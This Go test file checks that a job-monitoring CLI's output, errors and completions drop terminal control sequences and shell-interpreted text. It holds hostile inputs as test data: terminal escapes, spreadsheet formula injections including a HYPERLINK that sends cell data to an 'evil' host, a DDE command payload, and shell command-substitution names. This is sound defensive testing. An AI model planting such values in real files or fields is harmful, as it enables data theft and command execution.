package command

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/jobmon-db/jobmon-db/internal/jobmon"
	"github.com/jobmon-db/jobmon-db/internal/names"
)

// Names as somebody would choose them who wants to do harm.
var hostileNames = []string{
	"01. (JM) \x1b]0;PWNED\x07\x1b[2J\u009b31m\x1bP$q\x1b\\Office", `=HYPERLINK("http://evil/?"&A1,"x")`,
	"+cmd|'/C calc'!A0", "\t=1+1", "x;=1",
	"x\n{\"level\":\"error\",\"message\":\"forged\"}", "\u202egnp.exe\u2066\u200b\ufeff", "\x7f\u0085",
	"99. (JM) Ready",
}

// hostileSite is a recording in which every name is hostile, and a data folder whose daemon has read it.
func hostileSite(t *testing.T) (dir, recording string) {
	t.Helper()
	var lines []string
	add := func(format string, args ...any) { lines = append(lines, fmt.Sprintf(format, args...)) }
	add(`{"recording":{"format":"jobmon-db recording","v":1,"at":"2026-05-01T10:00:00.000Z","utc_offset":"+00:00","program":"v1","server":"SQL \u001b]0;S\u0007","pseudonyms":false}}`)
	for i, name := range hostileNames {
		add(`{"job":{"id":%d,"name":%s,"folder":%s}}`, i+1, quoted(name), quoted(`Fold\`+name))
	}
	for i, name := range hostileNames[:4] {
		add(`{"computer":{"id":%d,"name":%s,"os_name":%s,"group":%s}}`, 5000001+i, quoted(name), quoted(name),
			quoted(name))
	}
	row := 700000
	for i := range 4 {
		for j := range hostileNames {
			row++
			status := []string{"0", "1603", "null"}[min(j/3, 2)]
			add(`{"row":{"id":%d,"job":%d,"computer":%d,"start":"2026-05-01T09:%02d:00.000","status":%s}}`, row, j+1,
				5000001+i, 20+j, status)
		}
	}
	add(`{"end":{"lines":%d}}`, len(lines)+1)
	dir = t.TempDir()
	recording = filepath.Join(dir, "evil.ndjson")
	if err := os.WriteFile(recording, []byte(strings.Join(lines, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir, recording
}

var suspicious = regexp.MustCompile("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f\u0080-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069]")

// No command passes on what a terminal obeys, in no form, neither in its output nor in its errors.
func TestNoCommandPassesOnControls(t *testing.T) {
	t.Parallel()
	dir, recording := hostileSite(t)
	data := filepath.Join(dir, "data")
	env := []string{"JOBMON_DATA_DIR=" + data, "JOBMON_EVT_DIR=" + filepath.Join(dir, "evt"),
		"JOBMON_SOURCE_KIND=recording", "JOBMON_SOURCE_RECORDING=" + recording}
	daemon := start(t, env, "run")
	ask := func(args ...string) outcome {
		var stdout, stderr bytes.Buffer
		code := Main(t.Context(), args, env, strings.NewReader(""), &stdout, &stderr)
		return outcome{code, stdout.String(), stderr.String()}
	}
	eventually(t, func() string { return "the rows are in the log: " + daemon.stderr.String() }, func() bool {
		return strings.Contains(ask("replay", "-o", "ndjson").stdout, "700036")
	})
	daemon.stop()
	if at := suspicious.FindString(daemon.stderr.String()); at != "" {
		t.Errorf("run: %q", at)
	}
	commands := []string{
		"check", "check -o json", "verify", "verify -o json", "config show", "config show -o json", "export -",
		"replay -o table", "replay -o json", "replay -o ndjson", "replay -o csv",
		"replay --fields all -o csv", "status", "status -o json", "replay show id:5000001",
		"replay show id:5000001 -o json", "replay show nobody",
		"replay show 01.", "replay --computer nobody", "replay --job nothing", "replay sessions --all",
		"replay sessions --all -o json", "replay sessions --all -o csv",
		"replay stats", "replay stats -o json", "replay stats -o csv", "replay waterfall id:5000001",
		"replay waterfall id:5000001 -o json",
		"replay waterfall id:5000001 -o svg", "replay waterfall id:5000001 -o html",
		"replay waterfall id:5000001 --session 1", "replay diff --from -1h", "replay diff -o json", "refresh 0",
		"status nobody", "__complete status ", "__complete replay --job ",
		"replay show id:5000001 -o evt", "replay show id:5000001 --delivered", "replay diff -o ndjson",
		"replay diff -o csv", "replay sessions --all -o ndjson",
		"client view " + filepath.Join(dir, "evt", "5000001.evt"), "client view " + filepath.Join(dir, "evt"),
		"watch --once", "status id:5000001",
		"backup " + filepath.Join(dir, "copy.db"), "compact", "export " + filepath.Join(dir, "export.ndjson"),
		"check --monitor " + dir, "version",
		"check --record " + filepath.Join(dir, "again.ndjson"), "replay waterfall nobody", "replay sessions nobody",
		"replay diff nobody nothing never",
	}
	clean := func(what, text string) {
		if at := suspicious.FindStringIndex(text); at != nil {
			t.Errorf("%s holds %q", what, text[max(0, at[0]-40):min(len(text), at[1]+20)])
		}
	}
	for _, line := range commands {
		got := ask(strings.Split(line, " ")...)
		clean("the output of "+line, got.stdout)
		clean("the error of "+line, got.stderr)
	}
	// A site's own form is made of the same names.
	for _, name := range []string{"list", "line"} {
		templated := start(t, append(env, "JOBMON_EVT_TEMPLATE="+filepath.Join("..", "..", "..", "configs", "templates",
			name+".txt"), "JOBMON_EVT_TAKEOVER=true"), "run")
		eventually(t, func() string { return "a file is written: " + templated.stderr.String() }, func() bool {
			return ask("refresh", "5000001").code == exitOK
		})
		file, err := os.ReadFile(filepath.Join(dir, "evt", "5000001.evt"))
		if err != nil || !bytes.Contains(file, []byte("5000001")) || bytes.Contains(file, []byte("jobmon-evt")) {
			t.Errorf("%s: %v %q", name, err, file)
		}
		clean("the file of "+name, string(file))
		clean("show of "+name, ask("replay", "show", "id:5000001", "-o", "evt").stdout)
		templated.stop()
		clean("run with "+name, templated.stderr.String())
	}
}

// What a shell would run, expand or redirect is offered by its id.
func TestCompletionOffersNothingThatAShellInterprets(t *testing.T) {
	t.Parallel()
	names := names.Computers{}
	for i, name := range []string{"PC-0001", "aa`touch x`", "aa$(touch x)y", "aa;touch x;", "aa<(touch x)", "a&b",
		"a|b", "a b", "-x", "~root", "a*", "!!", "#x", "a'b", `a"b`, "{a,b}", "ä.ö_1"} {
		names.Add(&jobmon.Event{Kind: jobmon.KindComputer, Computer: jobmon.ComputerID(i + 1), Name: name})
	}
	plain := regexp.MustCompile(`^(PC-0001|ä\.ö_1|id:[0-9]+)$`)
	offered := computerWords(names, nil)
	if len(offered) != len(names) {
		t.Fatalf("%d offered", len(offered))
	}
	for _, w := range offered {
		if !plain.MatchString(w.text) {
			t.Errorf("%q is offered", w.text)
		}
	}
	for _, job := range []string{"a`b", "a$b", "a;b", "a&b", "a|b", "a<b", "a>b", "a\nb", "!x", "-x", "*", "a\x1b"} {
		if inert.MatchString(job) {
			t.Errorf("%q is offered", job)
		}
	}
	for _, job := range []string{"05. (JM) Office 2024", "(JM) Ready", `Fold\Sub`, "Büro 3"} {
		if !inert.MatchString(job) {
			t.Errorf("%q is not offered", job)
		}
	}
}

// quoted is a text as JSON.
func quoted(text string) string {
	line, err := json.Marshal(text)
	if err != nil {
		panic(err)
	}
	return string(line)
}
